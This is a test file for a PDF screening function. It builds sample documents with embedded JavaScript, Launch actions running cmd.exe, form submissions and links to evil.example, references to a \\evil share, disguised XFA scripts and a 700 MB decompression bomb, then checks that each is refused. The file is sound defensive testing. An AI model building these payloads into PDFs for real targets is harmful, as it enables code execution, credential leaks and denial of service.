import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { Refusal } from '#kernel/refusals.ts'
import { aPdfOf, type PdfPacking } from '../testing/pdf.ts'
import { ApartFailure } from '#platform/apart/apart.ts'
import { checkDocument, refusalOf } from './check-document.ts'

let dir: string
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'clarion-documents-'))
})
afterAll(() => rm(dir, { recursive: true }))

async function verdictOn(pdf: Buffer): Promise<unknown> {
  const path = join(dir, 'document.pdf')
  await writeFile(path, pdf)
  return checkDocument(path).then(
    () => 'passes',
    (error: unknown) => (error instanceof Refusal ? (error.details['found'] ?? error.code) : error),
  )
}

type Parts = Omit<Parameters<typeof aPdfOf>[0], 'packing'>

const js = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const annotation = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>`
const xfa = (text: string) => {
  const bytes = Buffer.from(text, 'utf8').toString('latin1')
  return `<< /Length ${bytes.length} >>\nstream\n${bytes}\nendstream`
}

const share = '(\\\\\\\\evil\\\\share\\\\film.mp4)'
const screen = '/Type /Annot /Subtype /Screen /Rect [0 0 9 9]'
const clip = (file: string) => `<< /S /MR /C << /S /MCD /CT (video/mp4) /D ${file} >> >>`
const SHARES: [string, Parts][] = [
  [
    'a film',
    { annotation: `<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F ${share} >> /A true >>` },
  ],
  ['a film of another annotation', { annotation: annotation(`<< /S /Movie /T (film) /Operation /Play >>`) }],
  ['a film that a link plays', { annotation: annotation(`<< /S /Rendition /OP 0 /R ${clip(share)} >>`) }],
  [
    'a film that opening plays',
    { catalogue: `/OpenAction << /S /Rendition /OP 0 /R ${clip(`<< /F ${share} >>`)} >>` },
  ],
  [
    'a film in its list of films',
    { catalogue: `/Names << /Renditions << /Names [(a) ${clip(share)}] >> >>` },
  ],
  [
    'a film whose data is chosen from several',
    {
      annotation: `<< ${screen} /MK << >> >>`,
      objects: [`<< /S /SR /R [<< /S /MR /C << /S /MCD /D << /UF ${share} >> >> >>] >>`],
      catalogue: '/Other 5 0 R',
    },
  ],
  ['a file that something names', { catalogue: `/AF [<< /Type /Filespec /F ${share} /UF ${share} >>]` }],
  [
    'a page of another document',
    {
      catalogue: '/Other 5 0 R',
      objects: [`<< /Subtype /Form /Ref << /F ${share} /Page 0 >> /Length 0 >>\nstream\n\nendstream`],
    },
  ],
]

const ACTIVE: [string, Parts, string][] = [
  ['a script when it is opened', { catalogue: `/OpenAction ${js}` }, 'script'],
  [
    'a script in its list of scripts',
    { catalogue: `/Names << /JavaScript << /Names [(a) 5 0 R] >> >>`, objects: [js] },
    'script',
  ],
  ['a script behind a link', { annotation: annotation(js) }, 'script'],
  [
    'a script after another action',
    { annotation: annotation(`<< /S /GoTo /D [3 0 R /Fit] /Next [${js}] >>`) },
    'script',
  ],
  ['a script under an escaped name', { annotation: annotation('<< /S /J#61vaScript /JS (x) >>') }, 'script'],
  [
    'a script in the first of two actions',
    {
      annotation: `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${js} /A << /S /URI /URI (https://example.eu/) >> >>`,
    },
    'script',
  ],
  ['a script played with a film', { annotation: annotation('<< /S /Rendition /OP 0 /JS (x) >>') }, 'script'],
  [
    'an action of its own accord',
    { annotation: '<< /Subtype /Widget /FT /Tx /AA << /K << /S /URI /URI (https://a.eu) >> >> >>' },
    'script',
  ],
  ['a program to be started', { annotation: annotation('<< /S /Launch /F (cmd.exe) >>') }, 'action'],
  [
    'a program started when it is opened',
    { catalogue: '/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>' },
    'action',
  ],
  [
    'a web page opened with it',
    { catalogue: '/OpenAction << /S /URI /URI (https://evil.example/) >>' },
    'action',
  ],
  [
    'answers that are sent elsewhere',
    { annotation: annotation('<< /S /SubmitForm /F (https://evil.example/) >>') },
    'action',
  ],
  [
    'a script as an address',
    { annotation: annotation('<< /S /URI /URI (javascript:alert\\(1\\)) >>') },
    'action',
  ],
  ...['https://evil.example/', '//evil/share'].map((uri): [string, Parts, string] => [
    `a web page opened after another action (${uri})`,
    { catalogue: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (${uri}) >> >>` },
    'action',
  ]),
  [
    'a web page opened as the third, in a list',
    {
      catalogue:
        '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /N /NextPage /Next 5 0 R >>] >>',
      objects: ['<< /S /URI /URI (https://evil.example/) /Next 5 0 R >>'],
    },
    'action',
  ],
  [
    'another file opened after another action',
    { catalogue: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /GoToR /F (a.pdf) /D [0 /Fit] >> >>' },
    'action',
  ],
  [
    'a link to a file of a network',
    { annotation: annotation('<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>') },
    'action',
  ],
  ...[
    '\\\\\\\\evil\\\\share',
    'java\\nscript:alert',
    'ftp://a.eu/',
    'https:\\\\\\\\evil',
    ' https://a.eu/',
    'a.html',
    '',
  ].map((uri): [string, Parts, string] => [
    `an address that is none of the web: “${uri}”`,
    { annotation: annotation(`<< /S /URI /URI (${uri}) >>`) },
    'action',
  ]),
  ...SHARES.map(([what, parts]): [string, Parts, string] => [
    `${what} on a share of a network`,
    parts,
    'action',
  ]),
  [
    'a stream that stands in another file',
    { objects: ['<< /Length 0 /F (a.bin) >>\nstream\n\nendstream'], catalogue: '/Metadata 5 0 R' },
    'attachment',
  ],
  [
    'a file inside',
    {
      catalogue: '/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>',
      objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >>'],
    },
    'attachment',
  ],
  [
    'a file pinned to the page',
    { annotation: '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>' },
    'attachment',
  ],
  [
    'a film with a program',
    { annotation: '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>' },
    'script',
  ],
]

const PACKINGS: readonly PdfPacking[] = ['plain', 'compressed', 'encrypted']

describe.each(PACKINGS)('with its objects %s', (packing) => {
  test('a PDF with links, pages to go to and ordinary names passes', async () => {
    const passing: Parts[] = [
      {},
      { catalogue: '/OpenAction [3 0 R /Fit]' },
      { catalogue: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>' },
      { annotation: annotation('<< /S /URI /URI (mailto:a@example.eu) >>') },
      { annotation: annotation('<< /S /Named /N /NextPage >>') },
      { annotation: annotation('<< /S /GoTo /D (chapter 2) /Next << /S /GoTo /D /End >> >>') },
      { annotation: '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /Dest (chapter 2) >>' },
      {
        catalogue:
          '/Names << /Dests << /Names [(chapter 2) [3 0 R /Fit]] >> >> /Dests << /End [3 0 R /Fit] >>',
      },
      { annotation: `<< ${screen} /A << /S /Named /N /NextPage >> >>` },
      { objects: ['<< /Font << /JS 3 0 R /AA 3 0 R /EF 3 0 R >> /S /constructor >>'] },
    ]
    const verdicts = []
    for (const parts of passing) verdicts.push(await verdictOn(aPdfOf({ ...parts, packing })))
    expect(verdicts).toEqual(passing.map(() => 'passes'))
  })

  test.each(ACTIVE)('one with %s is refused', async (_what, parts, found) => {
    expect(await verdictOn(aPdfOf({ ...parts, packing }))).toBe(found)
  })
})

test('what the table hides and a search from the beginning finds is refused', async () => {
  const hidden = `5 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction ${js} >> endobj\ntrailer << /Root 5 0 R /ID [(a) (a)] >>\n`
  const pdf = aPdfOf({}).toString('latin1')
  const at = pdf.indexOf('xref\n')
  const moved = `${pdf.slice(0, at)}${hidden}${pdf.slice(at)}`.replace(
    /startxref\n\d+/,
    `startxref\n${at + hidden.length}`,
  )
  expect(await verdictOn(Buffer.from(moved, 'latin1'))).toBe('script')
})

describe('a form in XML', () => {
  const form = (text: string) => ({
    catalogue: '/AcroForm << /XFA [(template) 5 0 R] >>',
    objects: [xfa(text)],
  })
  test.each([
    ['with a script', '<template><event><script>x()</script></event></template>', 'script'],
    [
      'that sends what was typed',
      '<t:template><t:submit target="https://evil.example"/></t:template>',
      'script',
    ],
    ['with a script under a prefix with a sign', '<x-f:script contentType="x">x()</x-f:script>', 'script'],
    [
      'with a script under a prefix in another script',
      '<\u03b1\u03b2.1:script>x()</\u03b1\u03b2.1:script>',
      'script',
    ],
    [
      'with words of its own that stand for a script',
      '<!DOCTYPE t [<!ENTITY s "&#60;script>x()&#60;/script>">]><t>&s;</t>',
      'script',
    ],
    ['in letters of two bytes', '\xfe\xff\0<\0s\0c\0r', 'script'],
    ['without either', '<template><field name="description"/></template>', 'passes'],
  ])('%s: %s', async (_what, text, verdict) => {
    expect(await verdictOn(aPdfOf(form(text)))).toBe(verdict)
  })
})

test.each([
  ['/Type /Pages /Kids [] /Count 0'],
  ['/Type /Pages /Kids [6 0 R] /Count 1'],
  ['/Type /Pages /Kids [5 0 R] /Count 1'],
  ['/Type /Pages /Count 1'],
])('one in which there is no page is refused as such: %s', async (pages) => {
  const parts = { catalogue: '/Pages 5 0 R', objects: [`<< ${pages} >>`] }
  const verdicts = []
  for (const packing of PACKINGS) {
    verdicts.push(await verdictOn(aPdfOf({ ...parts, packing, pages: '' })))
  }
  expect(verdicts).toEqual(PACKINGS.map(() => 'file-without-pages'))
})

const text = (bytes: Buffer) => bytes.toString('latin1')
const bytesOf = (words: string) => Buffer.from(words, 'latin1')
/** What programs write around a document, each readable by what people read documents with. */
const AROUND: [string, (pdf: string) => string][] = [
  ['the mark of a text before it', (pdf) => `\xef\xbb\xbf${pdf}`],
  ['line ends before it', (pdf) => `\r\n\r\n${pdf}`],
  ['a line of PostScript before it', (pdf) => `%!PS-Adobe-3.0 PDF-1.4\n${pdf}`],
  [
    'what is said to a printer before and after it',
    (pdf) =>
      `\x1b%-12345X@PJL JOB NAME="Report"\r\n@PJL ENTER LANGUAGE=PDF\r\n${pdf}\x1b%-12345X@PJL EOJ\r\n\x1b%-12345X`,
  ],
  ['a thousand bytes before it', (pdf) => `${'\0'.repeat(1000)}${pdf}`],
  ['2,000 zeros after it', (pdf) => `${pdf}${'\0'.repeat(2000)}`],
  ['2,000 line ends after it', (pdf) => `${pdf}${'\r\n'.repeat(1000)}`],
  ['another text after it', (pdf) => `${pdf}${'<p>sent by a portal</p>\n'.repeat(200)}`],
  ['no end mark', (pdf) => pdf.replace('%%EOF\n', '')],
  ['no line end after its end mark', (pdf) => pdf.trimEnd()],
  [
    'a table that was moved and zeros after it',
    (pdf) => `${pdf.replace(/(?<=startxref\n)\d+/, '7')}${'\0'.repeat(2000)}`,
  ],
  ['no end mark and a beginning', (pdf) => `\r\n${pdf.replace('%%EOF\n', '\0'.repeat(3000))}`],
]

describe.each(AROUND)('a PDF with %s', (_what, wrapped) => {
  test('passes, and one with a script is refused', async () => {
    const verdicts = []
    for (const packing of PACKINGS) {
      verdicts.push(await verdictOn(bytesOf(wrapped(text(aPdfOf({ packing }))))))
      verdicts.push(await verdictOn(bytesOf(wrapped(text(aPdfOf({ packing, annotation: annotation(js) }))))))
    }
    expect(verdicts).toEqual(PACKINGS.flatMap(() => ['passes', 'script']))
  })
})

test('a table whose places count from what stands before the header is followed, and what it alone shows is found', async () => {
  const before = '\r\n'.repeat(100)
  const counted = (pdf: string) =>
    `${before}${pdf
      .replace(/^\d{10}(?= 00000 n)/gm, (at) => String(Number(at) + before.length).padStart(10, '0'))
      .replace(/(?<=startxref\n)\d+/, (at) => String(Number(at) + before.length))}`
  const verdicts = [{}, { annotation: annotation(js) }].map((parts) => counted(text(aPdfOf(parts))))
  expect([await verdictOn(bytesOf(verdicts[0] ?? '')), await verdictOn(bytesOf(verdicts[1] ?? ''))]).toEqual([
    'passes',
    'script',
  ])
})

test('a PDF that lost only its table and its end is read by looking for its pages', async () => {
  const pdf = text(aPdfOf({}))
  const lost = `${pdf.slice(0, pdf.indexOf('xref\n'))}trailer\n<< /Root 1 0 R >>\n`
  const withoutContent = lost.replace('/Annots [4 0 R]', '/Contents 9 0 R')
  const withoutPage = lost.replace('/Kids [3 0 R]', '/Kids [3 0 R 8 0 R]')
  expect([
    await verdictOn(bytesOf(lost)),
    await verdictOn(bytesOf(withoutContent)),
    await verdictOn(bytesOf(withoutPage)),
  ]).toEqual(['passes', 'file-unreadable', 'file-unreadable'])
})

test('a PDF that breaks off is refused wherever it does, also within a change that was added at its end', async () => {
  const whole = text(aPdfOf({ objects: [`<< /Length 6000 >>\nstream\n${'x'.repeat(6000)}\nendstream`] }))
  const changed = `${whole}3 0 obj\n<< /Type /Page /Parent 2 0 R >>\nendobj\n7 0 obj\n<< /Length 9000 >>\nstream\n${'y'.repeat(2000)}`
  const cuts = [0.2, 0.5, 0.9].map((share) => whole.slice(0, whole.length * share))
  const verdicts = []
  const changedALittle = `${whole}3 0 obj\n<< /Type /Page /Parent 2 0 R >>\nend`
  for (const each of [...cuts, changed, changedALittle]) verdicts.push(await verdictOn(bytesOf(each)))
  expect(verdicts).toEqual(Array(5).fill('file-unreadable'))
})

test('a PDF that needs a password to open is refused as such, whatever stands around it; its owner’s alone is nobody’s concern', async () => {
  const wrapped = [(pdf: string) => pdf, ...AROUND.map(([, wrap]) => wrap)]
  const verdicts = []
  for (const wrap of wrapped) {
    const locked = text(aPdfOf({ packing: 'encrypted', userPassword: 'secret' }))
    verdicts.push(await verdictOn(bytesOf(wrap(locked))))
  }
  expect(verdicts).toEqual(wrapped.map(() => 'file-protected'))
  expect(await verdictOn(aPdfOf({ packing: 'encrypted' }))).toBe('passes')
})

test('a PDF that opens with a certificate is refused as protected; one that only speaks of encryption passes', async () => {
  const pdf = text(aPdfOf({ objects: ['<< /Filter /Adobe.PubSec /V 4 /SubFilter /adbe.pkcs7.s5 >>'] }))
  const certified = pdf.replace('/Root 1 0 R >>', '/Root 1 0 R /Encrypt 5 0 R >>')
  const spoken = aPdfOf({ objects: ['(/Encrypt << /Filter /Standard >> is how it is written)'] })
  expect([await verdictOn(bytesOf(certified)), await verdictOn(spoken)]).toEqual(['file-protected', 'passes'])
})

test.each<[string, () => Buffer]>([
  ['one without a catalogue', () => Buffer.from('%PDF-1.7\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF')],
  ['a bomb', () => bomb()],
])('%s cannot be read', async (_what, make) => {
  expect(await verdictOn(make())).toBe('file-unreadable')
})

test('what may be our doing is not said of the file, and is worth another try', () => {
  const reasons = ['memory', 'time', 'ended', 'crowded', 'left'] as const
  const said = reasons.map((reason) => refusalOf(new ApartFailure(reason)))
  const again = { retryAfterSeconds: 60 }
  // What was not even begun is no fault of ours either: nothing of it belongs into the log.
  expect(said.map(({ code, details, cause }) => [code, details, cause !== undefined])).toEqual([
    ['file-unreadable', {}, false],
    ['check-unfinished', again, true],
    ['check-unfinished', again, true],
    ['check-unfinished', again, false],
    ['check-unfinished', again, false],
  ])
})

/** 700 MB of nothing in less than one, where its objects should be. */
function bomb(): Buffer {
  const stream = (number: number, dictionary: string, content: Buffer): Buffer =>
    Buffer.concat([
      Buffer.from(
        `${number} 0 obj << ${dictionary} /Filter /FlateDecode /Length ${content.length} >>\nstream\n`,
      ),
      content,
      Buffer.from('\nendstream\nendobj\n'),
    ])
  const head = Buffer.from('%PDF-1.7\n')
  const objects = stream(9, '/Type /ObjStm /N 3 /First 700000000', deflateSync(Buffer.alloc(700_000_000)))
  const entries = [0, 0, 0, 0, 2, 0, 9, 0, 2, 0, 9, 1, 2, 0, 9, 2, 1, 0, 9, 0]
  const table = deflateSync(Buffer.from(entries))
  const xref = stream(10, '/Type /XRef /Size 11 /Index [0 4 9 1] /W [1 2 1] /Root 1 0 R', table)
  const end = Buffer.from(`startxref\n${head.length + objects.length}\n%%EOF\n`)
  return Buffer.concat([head, objects, xref, end])
}
